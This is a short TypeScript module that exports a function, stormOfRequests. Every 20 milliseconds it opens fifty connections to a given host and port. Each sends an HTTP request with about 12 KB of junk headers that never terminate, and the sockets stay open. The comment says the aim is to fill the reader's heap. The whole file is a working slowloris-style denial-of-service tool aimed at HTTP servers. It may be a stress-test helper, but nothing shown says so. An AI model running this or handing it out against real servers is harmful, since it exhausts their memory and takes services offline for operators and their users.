import { connect, type Socket } from 'node:net';

/** Requests whose headers never end; what came of them so far is in the heap of who reads them. */
export function stormOfRequests(host: string, port: number): { readonly end: () => void } {
  const header = `x: ${'y'.repeat(200)}\r\n`;
  const sockets: Socket[] = [];
  const timer = setInterval(() => {
    for (let count = 0; count < 50; count += 1) {
      const socket = connect(port, host).on('error', () => undefined);
      socket.write(`GET /status HTTP/1.1\r\n${header.repeat(60)}`);
      sockets.push(socket);
    }
  }, 20);
  return {
    end: () => {
      clearInterval(timer);
      for (const socket of sockets) socket.destroy();
    },
  };
}
